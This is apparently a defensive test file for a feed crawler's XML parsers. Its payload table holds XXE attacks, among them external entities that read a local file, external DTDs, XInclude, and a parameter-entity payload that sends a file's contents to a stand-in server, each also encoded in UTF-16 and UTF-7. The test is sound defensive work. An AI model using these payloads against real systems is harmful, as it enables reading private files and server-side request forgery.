import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { CrawlError } from '../../crawler/crawl-error.ts';
import { decodeText } from '../../crawler/text/decode-text.ts';
import { readOpml } from '../../crawler/opml.ts';
import { readFeed } from '../../crawler/feeds/read-feed.ts';
import { readSitemap } from '../../crawler/feeds/read-sitemap.ts';
import { openTrap, type Trap } from './trap.ts';

const SECRET = 'rahsia-7714';
let trap: Trap;
let folder: string;
let secretFile: string;
beforeAll(async () => {
  trap = await openTrap();
  folder = await mkdtemp(join(tmpdir(), 'first-knock-secret-'));
  secretFile = pathToFileURL(join(folder, 'secret.txt')).href;
  await writeFile(join(folder, 'secret.txt'), SECRET);
});
afterAll(async () => {
  trap.close();
  await rm(folder, { recursive: true });
});

const item = (title: string) =>
  `<item><title>${title}</title><link>https://warta.example/1</link></item>`;
const rss = (title: string) => `<rss version="2.0"><channel>${item(title)}</channel></rss>`;
const atom = (title: string) =>
  `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>${title}</title></entry></feed>`;
const sitemap = (address: string) =>
  `<urlset><url><loc>https://warta.example/${address}</loc></url></urlset>`;

/** `FILE` is the address of a secret file, `TRAP` that of a listening server. */
const FILES: Record<string, string> = {
  'a system entity of a file': `<!DOCTYPE rss [<!ENTITY x SYSTEM "FILE">]>${rss('&x;')}`,
  'a system entity of a server': `<!DOCTYPE rss [<!ENTITY x SYSTEM "TRAP">]>${rss('&x;')}`,
  'a public entity': `<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x" "TRAP">]>${rss('&x;')}`,
  'an external DTD': `<!DOCTYPE rss SYSTEM "TRAP">${rss('a')}`,
  'a public DTD': `<!DOCTYPE rss PUBLIC "-//x" "TRAP">${rss('a')}`,
  'a parameter entity': `<!DOCTYPE rss [<!ENTITY % x SYSTEM "TRAP"> %x;]>${rss('a')}`,
  'a parameter entity that carries a file away': `<!DOCTYPE rss [<!ENTITY % f SYSTEM "FILE"><!ENTITY % e "<!ENTITY &#37; s SYSTEM 'TRAP?%f;'>">%e;%s;]>${rss('a')}`,
  'an inclusion of a file': `<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><item><guid>1</guid><title><xi:include parse="text" href="FILE"/>a</title></item></channel></rss>`,
  'an inclusion from a server': `<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><xi:include href="TRAP"/></channel></rss>`,
  'a style sheet': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="TRAP"?>${rss('a')}`,
  'a schema': `<rss version="2.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x TRAP"><channel>${item('a')}</channel></rss>`,
  'an entity in Atom': `<!DOCTYPE feed [<!ENTITY x SYSTEM "FILE">]>${atom('&x;')}`,
  'an entity in an attribute': `<!DOCTYPE rss [<!ENTITY x SYSTEM "FILE">]>${rss('a').replace('<item>', '<item a="&x;">')}`,
  'an entity in a link': `<!DOCTYPE rss [<!ENTITY x SYSTEM "FILE">]>${rss('a').replace('/1<', '/&x;<')}`,
  'an entity in a sitemap': `<!DOCTYPE urlset [<!ENTITY x SYSTEM "FILE">]>${sitemap('&x;')}`,
  'an entity in a list of feeds': `<!DOCTYPE opml [<!ENTITY x SYSTEM "FILE">]><opml version="2.0"><body><outline text="&x;" xmlUrl="https://warta.example/&x;"/></body></opml>`,
  'a DTD of a list of feeds': `<!DOCTYPE opml SYSTEM "TRAP"><opml version="2.0"><body><outline text="a" xmlUrl="https://warta.example/"/></body></opml>`,
  'a DTD of a sitemap': `<!DOCTYPE urlset SYSTEM "TRAP">${sitemap('1')}`,
};

const readList = ({ bytes }: { bytes: Uint8Array }) => readOpml(decodeText(bytes));

/** All that can be read in these bytes, or '' where they are refused. */
async function allWords(bytes: Uint8Array): Promise<string> {
  const page = {
    status: 200,
    url: 'https://warta.example/',
    contentType: '',
    validators: {},
    bytes,
  };
  const said: unknown[] = [];
  for (const read of [readFeed, readSitemap, readList]) {
    try {
      said.push(await read(page));
    } catch (error) {
      if (!(error instanceof CrawlError)) throw error;
    }
  }
  return JSON.stringify(said);
}

/** RFC 2152, with the signs of markup in base64. */
const inUtf7 = (text: string) =>
  text.replaceAll(/[<>"'&]/g, (sign) => {
    const bytes = Buffer.from(sign, 'utf16le').swap16();
    return `+${bytes.toString('base64').replaceAll('=', '')}-`;
  });

describe('H1: no file is opened and no server asked for what a feed, sitemap or list names', () => {
  const encodings: Array<[string, (text: string) => Uint8Array]> = [
    ['UTF-8', (text) => Buffer.from(text)],
    ['UTF-16', (text) => Buffer.from(`\uFEFF${text}`, 'utf16le')],
    ['UTF-7', (text) => Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${inUtf7(text)}`)],
  ];
  test.each(
    Object.entries(FILES).flatMap(([name, text]) =>
      encodings.map(([encoding, encode]) => [name, encoding, text, encode] as const),
    ),
  )('%s, in %s', async (_, __, text, encode) => {
    const named = text
      .replaceAll('FILE', secretFile)
      .replaceAll('TRAP', `http://127.0.0.1:${trap.port}/x`);
    expect(await allWords(encode(named))).not.toContain(SECRET);
    expect(trap.hits).toEqual([]);
  });

  test('and what stands in the text itself would have been seen', async () => {
    expect(await allWords(Buffer.from(rss(SECRET)))).toContain(SECRET);
  });
});
